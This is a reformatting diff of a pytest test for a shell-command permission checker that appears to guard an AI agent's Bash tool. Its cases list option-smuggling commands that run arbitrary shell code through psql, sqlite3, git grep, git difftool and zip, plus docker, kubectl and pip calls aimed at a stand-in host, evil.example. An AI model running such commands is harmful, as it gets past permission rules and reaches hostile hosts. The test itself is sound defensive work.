@@ -12,34 +12,54 @@ from bot.shell.syntax import literal
 from tests.shell.conftest import Check
 
 
-@pytest.mark.parametrize(("description", "command", "allow", "allowed"), [
-    ("docker -H under docker's prefix rule", "docker -H tcp://evil.example:2375 ps", ["Bash(docker:*)"], False),
-    ("docker --host= attached", "docker --host=tcp://evil.example:2375 ps", ["Bash(docker:*)"], False),
-    ("docker abbreviated --ho", "docker --ho tcp://evil.example:2375 ps", ["Bash(docker:*)"], False),
-    ("docker ps", "docker ps", ["Bash(docker:*)"], True),
-    ("docker -H spelled out", "docker -H unix:///run/user/docker.sock ps",
-     ["Bash(docker -H unix:///run/user/docker.sock:*)"], True),
-    ("kubectl --kubeconfig outside the workspace", "kubectl --kubeconfig /tmp/evil/config get pods",
-     ["Bash(kubectl get:*)"], False),
-    ("kubectl --kubeconfig in the workspace is the project's file", "kubectl --kubeconfig ./ci/kubeconfig get pods",
-     ["Bash(kubectl:*)"], True),
-    ("kubectl --context", "kubectl --context prod get pods", ["Bash(kubectl:*)"], False),
-    ("kubectl --server", "kubectl -s https://evil.example get pods", ["Bash(kubectl:*)"], False),
-    ("psql -c under psql's prefix rule", "psql -c '\\! id'", ["Bash(psql:*)"], False),
-    ("sqlite3 -cmd runs a dot-command", "sqlite3 -cmd '.shell id' db.sqlite", ["Bash(sqlite3:*)"], False),
-    ("sqlite3 reading a database", "sqlite3 db.sqlite 'select 1'", ["Bash(sqlite3:*)"], True),
-    ("git grep -O opens the matches in a pager command", "git grep -O'sh -c id' foo", ["Bash(git grep:*)"], False),
-    ("git grep", "git grep -n foo", ["Bash(git grep:*)"], True),
-    ("git difftool -x", "git difftool -x 'sh -c id' HEAD", ["Bash(git difftool:*)"], False),
-    ("git clone --template loads hooks", "git clone --template=/tmp/t https://example.com/r.git sub/r",
-     ["Bash(git clone:*)"], False),
-    ("mvn -s settings from outside the workspace", "mvn -s /tmp/evil.xml test", ["Bash(mvn:*)"], False),
-    ("zip -TT bundled after -T", "zip -T -TT 'sh -c id' a.zip src", ["Bash(zip:*)"], False),
-    ("pip --proxy", "pip --proxy evil.example:3128 download x", ["Bash(pip download:*)"], False),
-    ("an option after -- is an argument", "grep -- --context x.txt", ["Bash(grep:*)"], True),
-])
-def test_an_executing_option_needs_a_rule_that_spells_it_out(check: Check, description: str, command: str,
-                                                              allow: list[str], allowed: bool) -> None:
+@pytest.mark.parametrize(
+    ("description", "command", "allow", "allowed"),
+    [
+        ("docker -H under docker's prefix rule", "docker -H tcp://evil.example:2375 ps", ["Bash(docker:*)"], False),
+        ("docker --host= attached", "docker --host=tcp://evil.example:2375 ps", ["Bash(docker:*)"], False),
+        ("docker abbreviated --ho", "docker --ho tcp://evil.example:2375 ps", ["Bash(docker:*)"], False),
+        ("docker ps", "docker ps", ["Bash(docker:*)"], True),
+        (
+            "docker -H spelled out",
+            "docker -H unix:///run/user/docker.sock ps",
+            ["Bash(docker -H unix:///run/user/docker.sock:*)"],
+            True,
+        ),
+        (
+            "kubectl --kubeconfig outside the workspace",
+            "kubectl --kubeconfig /tmp/evil/config get pods",
+            ["Bash(kubectl get:*)"],
+            False,
+        ),
+        (
+            "kubectl --kubeconfig in the workspace is the project's file",
+            "kubectl --kubeconfig ./ci/kubeconfig get pods",
+            ["Bash(kubectl:*)"],
+            True,
+        ),
+        ("kubectl --context", "kubectl --context prod get pods", ["Bash(kubectl:*)"], False),
+        ("kubectl --server", "kubectl -s https://evil.example get pods", ["Bash(kubectl:*)"], False),
+        ("psql -c under psql's prefix rule", "psql -c '\\! id'", ["Bash(psql:*)"], False),
+        ("sqlite3 -cmd runs a dot-command", "sqlite3 -cmd '.shell id' db.sqlite", ["Bash(sqlite3:*)"], False),
+        ("sqlite3 reading a database", "sqlite3 db.sqlite 'select 1'", ["Bash(sqlite3:*)"], True),
+        ("git grep -O opens the matches in a pager command", "git grep -O'sh -c id' foo", ["Bash(git grep:*)"], False),
+        ("git grep", "git grep -n foo", ["Bash(git grep:*)"], True),
+        ("git difftool -x", "git difftool -x 'sh -c id' HEAD", ["Bash(git difftool:*)"], False),
+        (
+            "git clone --template loads hooks",
+            "git clone --template=/tmp/t https://example.com/r.git sub/r",
+            ["Bash(git clone:*)"],
+            False,
+        ),
+        ("mvn -s settings from outside the workspace", "mvn -s /tmp/evil.xml test", ["Bash(mvn:*)"], False),
+        ("zip -TT bundled after -T", "zip -T -TT 'sh -c id' a.zip src", ["Bash(zip:*)"], False),
+        ("pip --proxy", "pip --proxy evil.example:3128 download x", ["Bash(pip download:*)"], False),
+        ("an option after -- is an argument", "grep -- --context x.txt", ["Bash(grep:*)"], True),
+    ],
+)
+def test_an_executing_option_needs_a_rule_that_spells_it_out(
+    check: Check, description: str, command: str, allow: list[str], allowed: bool
+) -> None:
     result = check(command, allow=[*allow, "Edit"])
     assert isinstance(result, Allow) is allowed, (description, result)
 
